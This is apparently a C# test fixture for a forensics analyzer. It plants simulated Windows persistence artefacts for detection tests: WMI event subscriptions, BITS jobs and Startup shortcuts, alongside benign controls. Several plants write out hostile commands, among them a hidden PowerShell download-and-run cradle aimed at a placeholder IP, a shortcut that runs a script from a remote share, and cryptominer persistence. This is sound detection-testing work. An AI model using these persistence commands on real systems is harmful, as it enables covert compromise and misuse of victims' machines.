using Forensics.Analyzer.Risk;
using Forensics.Parsers.Tests.Formats.Windows;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>WMI subscriptions, jobs of BITS and shortcuts in Startup folders.</summary>
internal static class WindowsSubscriptionPlants
{
    private const string Repository = "/Windows/System32/wbem/Repository/";
    private const string Downloader = "/ProgramData/Microsoft/Network/Downloader/";
    private const string Common = "/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/";
    private const string Own = "/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/";
    private const string Boot = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240";
    private const string Cmd = @"C:\Windows\System32\cmd.exe";

    private static readonly PlantedPe s_miner = WindowsTaskPlants.Miner;
    private static readonly string s_cradle = WindowsTaskPlants.Encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/w')");

    public static IReadOnlyList<Plant> All { get; } =
    [
        .. new Plant[]
        {
            new("W-WMI", "loud-encoded-powershell", PlantKind.Loud, tree => Wmi(tree, Stock().Filter("DSM Event Log Filter", Boot).Command("DSM Event Log Consumer", "powershell.exe -nop -w hidden -enc " + s_cradle).Bind("DSM Event Log Filter", "CommandLineEventConsumer", "DSM Event Log Consumer"))) { Rule = "command-consumer", AtLeast = Severity.High },
            new("W-WMI", "loud-script", PlantKind.Loud, tree => Wmi(tree, Stock().Filter("f", Boot).Script("c", "VBScript", "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"C:\\ProgramData\\x\\x.exe\", 0").Bind("f", "ActiveScriptEventConsumer", "c"))) { Rule = "script-consumer", AtLeast = Severity.High },
            new("W-WMI", "quiet-miner", PlantKind.Quiet, tree => Wmi(tree.Pe("/ProgramData/Vendor/host.exe", s_miner), Stock().Filter("Updates", Boot).Command("Updates", @"C:\ProgramData\Vendor\host.exe -s").Bind("Updates", "CommandLineEventConsumer", "Updates"))) { AtLeast = Severity.Critical, Entries = [Repository + "OBJECTS.DATA"] },
            new("W-WMI", "quiet-program-and-template", PlantKind.Quiet, tree => Wmi(tree.Pe("/ProgramData/Vendor/host.exe", s_miner), Stock().Filter("Updates", Boot).Command("Updates", @"/c start C:\ProgramData\Vendor\host.exe", "cmd.exe").Bind("Updates", "CommandLineEventConsumer", "Updates"))) { AtLeast = Severity.Critical, Entries = [Repository + "OBJECTS.DATA"] },
            new("W-WMI", "quiet-without-index", PlantKind.Quiet, tree => Wmi(tree.Pe("/ProgramData/Vendor/host.exe", s_miner), Stock().Filter("Updates", Boot).Command("Updates", @"C:\ProgramData\Vendor\host.exe -s").Bind("Updates", "CommandLineEventConsumer", "Updates"), "INDEX.BTR")) { AtLeast = Severity.Critical, Entries = [Repository + "OBJECTS.DATA"] },
            new("W-WMI", "dormant-deleted-miner", PlantKind.Dormant, tree => Wmi(tree.Pe("/ProgramData/Vendor/host.exe", s_miner), With(new WmiRepositoryWriter().Filter("Updates", Boot).Command("Updates", @"C:\ProgramData\Vendor\host.exe -s").Bind("Updates", "CommandLineEventConsumer", "Updates").Delete()))) { TwinOf = "quiet-miner" },
            new("W-WMI", "dormant-unbound-miner", PlantKind.Dormant, tree => Wmi(tree.Pe("/ProgramData/Vendor/host.exe", s_miner), Stock().Command("Updates", @"C:\ProgramData\Vendor\host.exe -s"))) { TwinOf = "quiet-miner" },
            new("W-WMI", "benign-stock", PlantKind.Benign, tree => Wmi(tree, Stock())),
            new("W-WMI", "benign-vendor-agent", PlantKind.Benign, tree => Wmi(tree.Pe("/Program Files/Vendor/Agent/agent.exe", new PlantedPe { Seed = "va", IsSigned = true }), Stock().Filter("Vendor Power", Boot).Command("Vendor Power", "\"C:\\Program Files\\Vendor\\Agent\\agent.exe\" /event").Bind("Vendor Power", "CommandLineEventConsumer", "Vendor Power"))),
            new("W-BITS", "loud-notify-command", PlantKind.Loud, tree => tree.File(Downloader + "qmgr.db", BitsQueueWriter.Database("update", "http://203.0.113.9/a.txt", @"C:\Windows\Temp\a.txt", Cmd, "cmd.exe /c powershell -nop -enc " + s_cradle))) { Rule = "notify-command", AtLeast = Severity.High },
            new("W-BITS", "loud-program-from-address", PlantKind.Loud, tree => tree.File(Downloader + "qmgr0.dat", BitsQueueWriter.Old("update", "http://203.0.113.9/a.exe", @"C:\ProgramData\a.exe"))) { Rule = "program-from-address", AtLeast = Severity.Medium },
            new("W-BITS", "quiet-miner", PlantKind.Quiet, tree => tree.Pe("/ProgramData/Vendor/host.exe", s_miner).File(Downloader + "qmgr.db", BitsQueueWriter.Database("sync", "https://cdn.vendor.example/data.cab", @"C:\ProgramData\Vendor\data.cab", @"C:\ProgramData\Vendor\host.exe", "host.exe -s"))) { AtLeast = Severity.Critical, Entries = [Downloader + "qmgr.db"] },
            new("W-BITS", "quiet-miner-behind-cmd", PlantKind.Quiet, tree => tree.Pe("/ProgramData/Vendor/host.exe", s_miner).File(Downloader + "qmgr1.dat", BitsQueueWriter.Old("sync", "https://cdn.vendor.example/data.cab", @"C:\ProgramData\Vendor\data.cab", Cmd, @"cmd.exe /c C:\ProgramData\Vendor\host.exe"))) { AtLeast = Severity.Critical, Entries = [Downloader + "qmgr1.dat"] },
            new("W-BITS", "benign-updates", PlantKind.Benign, tree => tree.File(Downloader + "qmgr.db", BitsQueueWriter.Database("Edge Component Updater", "http://msedge.b.tlu.dl.delivery.mp.microsoft.com/filestreamingservice/files/x?P1=1", @"C:\Windows\TEMP\edge_BITS_1\x.exe"))),
            new("W-BITS", "benign-update-server-inside", PlantKind.Benign, tree => tree.File(Downloader + "qmgr0.dat", BitsQueueWriter.Old("WU Client Download", "http://10.0.0.9:8530/Content/x.exe", @"C:\Windows\SoftwareDistribution\Download\x.exe"))),
            new("W-STARTUP", "loud-shortcut-to-powershell", PlantKind.Loud, tree => tree.File(Own + "Update.lnk", new ShellLinkWriter { Target = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", Arguments = "-w hidden -nop -c \"iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"", ShowCommand = 7 }.ToArray())) { Rule = "powershell-download-run" },
            new("W-STARTUP", "loud-shortcut-to-cmd", PlantKind.Loud, tree => tree.File(Common + "Sync.lnk", new ShellLinkWriter { Target = Cmd, Arguments = @"/c start \\203.0.113.9\s\a.cmd", ShowCommand = 7 }.ToArray())) { Rule = "shortcut-interpreter" },
            new("W-STARTUP", "quiet-shortcut-to-miner", PlantKind.Quiet, tree => tree.Pe("/Users/alice/AppData/Roaming/Sync/sync.exe", s_miner).File(Own + "Sync.lnk", new ShellLinkWriter { Target = @"C:\Users\alice\AppData\Roaming\Sync\sync.exe" }.ToArray())) { AtLeast = Severity.Critical, Entries = [Own + "Sync.lnk"] },
            new("W-STARTUP", "quiet-shortcut-with-variables", PlantKind.Quiet, tree => tree.Pe("/ProgramData/Sync/sync.exe", s_miner).File(Common + "Sync.lnk", new ShellLinkWriter { Target = @"C:\Windows\explorer.exe", EnvironmentTarget = @"%ProgramData%\Sync\sync.exe" }.ToArray())) { AtLeast = Severity.Critical, Entries = [Common + "Sync.lnk"] },
            new("W-STARTUP", "dormant-shortcut-in-subfolder", PlantKind.Dormant, tree => tree.Pe("/Users/alice/AppData/Roaming/Sync/sync.exe", s_miner).File(Own + "old/Sync.lnk", new ShellLinkWriter { Target = @"C:\Users\alice\AppData\Roaming\Sync\sync.exe" }.ToArray())) { TwinOf = "quiet-shortcut-to-miner" },
            new("W-STARTUP", "benign-shortcut-to-program", PlantKind.Benign, tree => tree.Pe("/Program Files/Microsoft Office/Office16/ONENOTEM.EXE", new PlantedPe { Seed = "on", IsSigned = true }).File(Own + "Send to OneNote.lnk", new ShellLinkWriter { Target = @"C:\Program Files\Microsoft Office\Office16\ONENOTEM.EXE", Arguments = "/tsr" }.ToArray())),
            new("W-STARTUP", "benign-shortcut-to-installed-script", PlantKind.Benign, tree => tree.File("/Program Files/Vendor/start.cmd", "@echo off\r\nnet use Z: \\\\fs01\\share\r\n").File(Common + "Vendor.lnk", new ShellLinkWriter { Target = Cmd, Arguments = "/c \"C:\\Program Files\\Vendor\\start.cmd\"" }.ToArray())),
        }.Select(plant => plant with { Host = PlantHost.Windows }),
    ];

    /// <summary>What Windows 7 and servers bring: events of the service control manager go to the log; a consumer of a test tool that is nowhere.</summary>
    private static WmiRepositoryWriter Stock() => With(new WmiRepositoryWriter());

    private static WmiRepositoryWriter With(WmiRepositoryWriter writer) => writer.Filter("SCM Event Log Filter", "select * from MSFT_SCMEventLogEvent").Bind("SCM Event Log Filter", "NTEventLogEventConsumer", "SCM Event Log Consumer")
        .Filter("BVTFilter", "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \"Win32_Processor\" AND TargetInstance.LoadPercentage > 99").Bench().Bind("BVTFilter", "CommandLineEventConsumer", "BVTConsumer");

    private static PlantTree Wmi(PlantTree tree, WmiRepositoryWriter writer, string? without = null)
    {
        foreach ((string name, byte[] content) in writer.Files().Where(file => file.Key != without))
        {
            tree.File(Repository + name, content);
        }
        return tree;
    }
}
